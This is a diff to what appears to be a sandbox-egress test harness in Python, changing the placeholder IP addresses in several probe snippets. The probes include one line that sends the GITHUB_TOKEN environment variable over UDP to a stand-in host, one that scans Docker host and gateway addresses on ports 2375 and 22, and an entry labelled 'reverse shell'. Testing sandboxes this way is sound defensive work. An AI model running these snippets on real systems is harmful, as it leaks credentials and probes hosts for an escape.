@@ -109,13 +109,13 @@ BEHAVIOURS = {
         query = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\6direct\\7example\\0" + struct.pack("!HH", 1, 1)
         one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         one.settimeout(3)
-        one.sendto(query, ("203.0.113.53", 53))
+        one.sendto(query, ("198.51.100.53", 53))
         one.recv(512)
     """),
     "udp": _python("""
         import os, socket
         one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-        one.sendto(b"beacon " + os.environ["GITHUB_TOKEN"].encode(), ("203.0.113.9", 9999))
+        one.sendto(b"beacon " + os.environ["GITHUB_TOKEN"].encode(), ("198.51.100.9", 9999))
         import time; time.sleep(0.2)
     """),
     "reverse shell": _python("""
@@ -349,7 +349,7 @@ print("attach", call(101, 16, 1, 0, 0))
     """),
     "outside": _python("""
         import glob, os, socket
-        for address in ("172.17.0.1", "172.17.0.2", "10.0.0.1", "192.168.1.1", "192.0.2.1", "host.docker.internal"):
+        for address in ("172.17.0.1", "172.17.0.2", "10.0.0.1", "192.168.1.1", "198.51.100.1", "host.docker.internal"):
             for port in (24567, 2375, 22):
                 try:
                     one = socket.create_connection((address, port), 2)
